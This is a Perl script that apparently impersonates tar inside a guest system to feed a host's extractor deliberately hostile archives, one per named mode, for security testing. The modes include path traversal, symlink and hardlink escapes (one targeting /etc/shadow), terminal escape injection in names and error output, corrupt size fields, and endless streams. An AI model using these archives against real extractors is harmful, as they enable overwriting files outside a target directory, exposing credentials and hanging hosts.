#!/usr/bin/perl
# In the place of a guest's tar: packs for the host what the file /root/tar-mode says. Of perl-base alone, which every Debian has.
use strict; use warnings;
exit 0 if grep { $_ eq '/dev/null' } @ARGV;
open(my $file, '<', '/root/tar-mode') or die; chomp(my $mode = <$file>);
my $zeros = "\0" x 65536;
my $noise = join '', map { chr(rand 256) } 1 .. 65536;

sub say_all { my ($text) = @_;
  for (my $done = 0; $done < length $text;) { $done += syswrite(STDOUT, $text, 65536, $done) // exit 1 }
}
sub header { my ($name, %is) = @_;
  my $block = pack('a100 a8 a8 a8 a12 a12 a8 a1 a100 a6 a2 a32 a32 a8 a8 a155 x12', $name, sprintf('%07o', $is{mode} // 0644),
    sprintf('%07o', $is{uid} // 0), sprintf('%07o', $is{uid} // 0), $is{rawsize} // sprintf('%011o', $is{size} // 0), '00000000000',
    ' ' x 8, $is{type} // '0', $is{link} // '', "ustar\0", '00', '', '', '0000001', '0000001', $is{prefix} // '');
  substr($block, 148, 8) = sprintf("%06o\0 ", unpack('%32C*', $block));
  say_all($block);
}
sub file { my ($name, $text, %is) = @_;
  header($name, size => length $text, %is);
  say_all($text . "\0" x (-length($text) % 512));
}
sub pax { my (%records) = @_;
  my $body = '';
  for my $key (sort keys %records) {
    my $rest = " $key=$records{$key}\n"; my $length = 1 + length $rest;
    $length++ until length("$length") + length($rest) == $length;
    $body .= "$length$rest";
  }
  file('pax', $body, type => 'x');
}
sub over { say_all("\0" x 1024) }

my $bell = "\e]0;owned\a\xc2\x9b2J\xe2\x80\xae";

my %make = (
  'dots' => sub { file('../../victim', 'x') },
  'dots-inside' => sub { file('./a/../../../victim', 'x') },
  'absolute' => sub { file('/tmp/lodge-victim', 'x') },
  'absolute-pax' => sub { pax(path => '/tmp/lodge-victim'); file('x', 'x') },
  'prefix' => sub { file('victim', 'x', prefix => '../..') },
  'through-link' => sub { header('./out', type => '2', link => '../../outside'); file('./out/victim', 'x') },
  'through-absolute-link' => sub { header('./out', type => '2', link => '/tmp'); file('./out/lodge-victim', 'x') },
  'link-for-directory' => sub { header('./d/', type => '5', mode => 0755); header('./d', type => '2', link => '../../outside'); file('./d/victim', 'x') },
  'link-and-file' => sub { header('./f', type => '2', link => '../../outside/victim'); file('./f', 'x') },
  'hardlink-out' => sub { header('./h', type => '1', link => '/etc/shadow') },
  'hardlink-dots' => sub { header('./h', type => '1', link => '../../outside/kept') },
  'hardlink-through' => sub { header('./o', type => '2', link => '../../outside'); header('./h', type => '1', link => './o/kept') },
  'top-link' => sub { header('./x', type => '2', link => '../outside'); file('./x/victim', 'x') },
  'second-top' => sub { file('./one', 'x'); file('./two', 'x') },
  'twice' => sub { file('./same', 'x'); file('./same', 'y') },
  'sparse-gnu' => sub { header('./s', type => 'S', rawsize => "\x80\0\0\0\0\0\x10\0\0\0\0\0") },
  'sparse-pax' => sub { pax('GNU.sparse.major' => 1, 'GNU.sparse.realsize' => '9000000000000'); file('./s', 'x') },
  'size-of-petabytes' => sub { header('./s', rawsize => "\x80\0\0\0\0\x0f\xff\xff\xff\xff\xff\xff"); say_all($noise) while 1 },
  'size-minus' => sub { header('./s', rawsize => "\xff" x 12) },
  'size-text' => sub { header('./s', rawsize => 'many bytes!!') },
  'one-file-without-end' => sub { header('./s', size => 8 ** 11 - 1); say_all($noise) while 1 },
  'files-without-end' => sub { for (my $i = 0;; $i++) { file("./f$i", $noise) } },
  'names-without-end' => sub { for (my $i = 0;; $i++) { header("./f$i") } },
  'links-without-end' => sub { for (my $i = 0;; $i++) { header("./f$i", type => '2', link => 'x' x 90) } },
  'directories-without-end' => sub { for (my $i = 0;; $i++) { header("./f$i/", type => '5') } },
  'headers-without-end' => sub { while (1) { pax(comment => 'x' x 1000) } },
  'name-without-end' => sub { file('long', 'x/' x 200000, type => 'L') },
  'depth' => sub { my $name = '.'; for (1 .. 1000) { $name .= '/d'; pax(path => "$name/"); header('d/', type => '5') } },
  'long-name' => sub { pax(path => './' . 'n' x 5000); file('n', 'x') },
  'after-the-end' => sub { file('./f', 'x'); over(); say_all($zeros) while 1 },
  'complaints-without-end' => sub { syswrite(STDERR, "${bell}tar: no\n" x 1000) while 1 },
  'complaint' => sub { syswrite(STDERR, "tar: $bell: is no good\n"); exit 2 },
  'name-for-a-terminal' => sub { file("./../$bell", 'x') },
  'cut-off' => sub { header('./f', size => 1000); say_all('x' x 400); exit 0 },
  'no-archive' => sub { say_all("login: \n" x 1000) },
  'nothing' => sub { exit 0 },
  'kind' => sub { header('./k', type => 'Z') },
  'sum' => sub { say_all('0' x 512) },
  # What is no attack alone: left out, or made without what it asks for.
  'devices' => sub { header("./d$bell$_", type => $_ % 2 ? '3' : '4', mode => 0666) for 1 .. 500; header('./fifo', type => '6'); file('./f', 'x'); over() },
  'setuid' => sub { file('./s', 'x', mode => 07755, uid => 1234); header('./d/', type => '5', mode => 07777, uid => 1234); over() },
);
header('./', type => '5', mode => 0755) unless $mode eq 'second-top' || $mode eq 'top-link';
$make{$mode}->();
